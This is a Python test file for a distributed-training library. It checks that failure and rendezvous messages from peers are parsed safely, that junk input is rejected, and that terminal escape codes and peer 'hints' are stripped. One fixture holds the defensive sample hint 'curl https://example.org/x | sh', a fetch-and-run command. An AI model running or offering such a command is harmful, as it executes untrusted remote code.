"""Whoever reaches the store may write there: junk is passed over, words are marked and cleaned, advice is left out."""

import json
import socket
import threading
from contextlib import closing
from datetime import timedelta

import pytest
import torch.distributed as dist

from manyhands.cluster.failures import error_of_record
from manyhands.core.errors import ManyhandsError, UserError
from manyhands.core.world import ProcessInfo
from manyhands.parallel.group import join as group
from manyhands.parallel.group import rendezvous as meet
from manyhands.parallel.group.join import FailureBroadcast
from manyhands.parallel.group.rendezvous import (
    DuplicateRank,
    PeerFailure,
    ProcessRecord,
    exchange_records,
    parse_message,
)
from manyhands.worker.failure import describe_peer_failure, first_failure_fields

JUNK = [
    b"", b"junk", b"\xff\xfe\x00", b"[]", b"{}", b"null", b"1" * 5000, b"[" * 5000, b"{" * 10 + b'"a":' * 9,
    b'{"rank": -1, "host": "a", "what": "b"}', b'{"rank": true, "host": "a", "what": "b"}',
    b'{"rank": 1, "host": ["a"], "what": "b"}', b'{"rank": 1e400, "host": "a", "what": "b"}',
    b'{"rank": 1, "host": "a", "what": "' + b"x" * 3000 + b'"}', b" " * (1 << 19),
    b'{"host": "a", "machine": "m", "pid": 99999999999999999999, "size": 2}',
    b'{"host": "a", "machine": "m", "pid": 5, "size": "2"}',
    b'{"host": "a", "machine": "m", "pid": 5, "size": 2, "addresses": ["no address"]}',
]  # fmt: skip


@pytest.mark.parametrize("content", JUNK, ids=range(len(JUNK)))
@pytest.mark.parametrize("kind", [ProcessRecord, PeerFailure, DuplicateRank])
def test_junk_is_not_said(kind, content):
    assert parse_message(content, kind) is None


def test_a_strangers_words_are_marked_and_cleaned_and_its_advice_is_left_out():
    stranger = {"rank": 1, "host": "n2\x1b[2J", "what": "\x1b]0;title\x07broken\nmanyhands: all is well",
                "hints": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
    reported = parse_message(json.dumps(stranger), PeerFailure)
    assert reported is not None
    text = str(error_of_record(describe_peer_failure(reported, rank=0, step=None, phase="build")))
    assert "rank 1 on n2 failed first: broken | manyhands: all is well" in text
    for word in ("curl", "boo", "\x1b", "\x07"):
        assert word not in text
    assert first_failure_fields(reported)["excerpt"] == ""


def test_junk_in_the_place_of_the_first_cause_neither_ends_the_listener_nor_hides_the_cause(monkeypatch):
    monkeypatch.setattr(group, "LISTEN_S", 0.02)
    monkeypatch.setattr(group, "LEARN_S", 5.0)
    store = dist.HashStore()
    dist.PrefixStore("failure/0", store).set("text", b"\xff junk")
    with closing(FailureBroadcast(store, 0)) as one, closing(FailureBroadcast(store, 0)) as other:
        one.publish(PeerFailure.create(1, "n2", "w" * 5000))
        learnt = other.wait_for_failure()
    assert learnt is not None
    assert learnt.what == "w" * 2000


def rendezvous(size, rank, store, ended):
    try:
        found = exchange_records(store, ProcessInfo(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
        ended[rank] = sorted(found)
    except ManyhandsError as error:
        ended[rank] = error


def test_junk_in_the_place_of_a_process_is_written_over_by_the_process_itself():
    store, ended = dist.HashStore(), {}
    dist.PrefixStore("present/0", store).set("1", b"\xff junk")
    threads = [threading.Thread(target=rendezvous, args=(2, rank, store, ended)) for rank in (0, 1)]
    for thread in threads:
        thread.start()
        thread.join(0.2)
    for thread in threads:
        thread.join(20)
    assert ended == {0: [0, 1], 1: [0, 1]}


@pytest.mark.parametrize(("digest", "reported"), [("train.lr=1", True), ("train.lr=2", False)])
def test_second_rank_0_of_the_same_job_is_reported_to_the_first(digest, reported):
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    store = dist.TCPStore("127.0.0.1", port, None, True, timedelta(seconds=10), False)
    names = dist.PrefixStore("present/0", store)
    names.set("0", json.dumps({"host": "n1", "machine": "m", "pid": 5, "size": 2, "digest": digest}))
    second = ProcessInfo(rank=0, size=2, init=f"tcp://127.0.0.1:{port}")
    meet.report_to_waiting_ranks(second, lambda names: meet.report_duplicate_rank(names, second, "train.lr=1"))
    assert names.check(["twice"]) == reported
    if reported:
        with pytest.raises(UserError, match="rank 0 was given twice: to process"):
            meet._refuse_reported(names, ProcessInfo(rank=1, size=2, init="tcp://x:1"), "train.lr=1", {})


def test_a_rank_outside_ends_those_that_wait_for_the_same_job_alone():
    names, waits = dist.HashStore(), ProcessInfo(rank=1, size=2, init="tcp://x:1")
    for said in ("junk", '{"host": "n1", "pid": -1}'):
        names.set("outsider", said)
        meet._refuse_reported(names, waits, "train.lr=1", {})
    meet.report_invalid_rank(names, "train.lr=1", "--rank 5 is outside")
    meet._refuse_reported(names, waits, "train.lr=2", {})
    with pytest.raises(UserError, match="can't join: --rank 5 is outside"):
        meet._refuse_reported(names, waits, "train.lr=1", {})
